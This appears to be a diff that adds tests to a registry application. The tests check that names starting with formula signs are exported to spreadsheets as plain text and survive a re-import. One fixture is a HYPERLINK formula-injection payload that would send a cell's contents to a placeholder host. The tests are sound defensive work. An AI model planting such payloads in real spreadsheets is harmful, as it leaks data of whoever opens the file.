@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import shutil
+import subprocess
 import unicodedata
 from datetime import date, datetime
 
@@ -187,3 +189,47 @@ def test_household_numbers_make_households_with_their_head(services, tmp_path):
     heads = {h.id: h.head_person_id for h in services.households.list(people["Đinh Văn Ơn"].commune_id)}
     assert heads[household] == people["Đinh Văn Hmưk"].id
     assert heads[people["Rơ Châm Hlim"].household_id] == people["Rơ Châm Hlim"].id
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://example.invalid/?"&B2,"Bấm vào đây")', "+Y Bình", "-Y Hoa", "@SUM(Y Nga)",
+                 "=1+Y"]
+
+
+def _formula_cells(path):
+    """(cells written as formulas, cells whose text begins with a formula sign but lacks the quote prefix)."""
+    sheet = load_workbook(path).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    return ([c.coordinate for c in cells if c.data_type == "f"],
+            [c.coordinate for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r" and not c.quotePrefix])
+
+
+def test_names_that_look_like_formulas_are_written_and_read_back_as_text(services, tmp_path):
+    for name in FORMULA_NAMES:
+        services.persons.add(name, "F", "1990", "Ba Na", "Kông Bơ La", "=Làng Mới")
+    headers, rows = services.person_import.export_rows()
+    rows.append([None] * len(headers))
+    rows[-1][0], rows[-1][1] = "\tTab Đầu", "\rVề Đầu"  # straight into the writer: the form trims these
+    write_persons(tmp_path / "p.xlsx", headers, rows[:-1] + [rows[-1]], "Danh sách")
+    assert _formula_cells(tmp_path / "p.xlsx") == ([], [])
+    read_rows, read_headers = read_sheet(tmp_path / "p.xlsx")
+    names = {r.cells["full_name"][0] for r in read_rows}
+    assert set(FORMULA_NAMES) <= names and "\tTab Đầu" in names
+    write_persons(tmp_path / "again.xlsx", headers, rows[:-1], "Danh sách")
+    other = open_services(tmp_path / "other.db")
+    other.offices.initialise("commune", "UBND xã Kông Bơ La (máy 2)", "Kông Bơ La")
+    outcome = other.person_import.import_rows(*read_sheet(tmp_path / "again.xlsx"))
+    assert outcome.status == "imported" and outcome.created == len(FORMULA_NAMES), outcome.errors
+    people = other.persons.list("Kông Bơ La")
+    assert sorted(p.full_name for p in people) == sorted(FORMULA_NAMES)
+    assert {p.village for p in people} == {"=Làng Mới"}
+    other.ctx.db.close()
+
+
+@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not installed")
+def test_libreoffice_shows_formula_like_names_as_text(tmp_path):
+    names = ["=1+1", "+2+2", "-3+3", "@SUM(4)", "=HYPERLINK(\"http://example.invalid\",\"x\")"]
+    write_persons(tmp_path / "p.xlsx", ["Họ và tên"], [[n] for n in names], "Danh sách")
+    subprocess.run(["libreoffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
+                    "--outdir", str(tmp_path), str(tmp_path / "p.xlsx")], check=True, capture_output=True, timeout=120)
+    lines = (tmp_path / "p.csv").read_text(encoding="utf-8").splitlines()
+    assert [line.strip('"').replace('""', '"') for line in lines[1:]] == names  # not 2, 4, 0, 4 or "x"
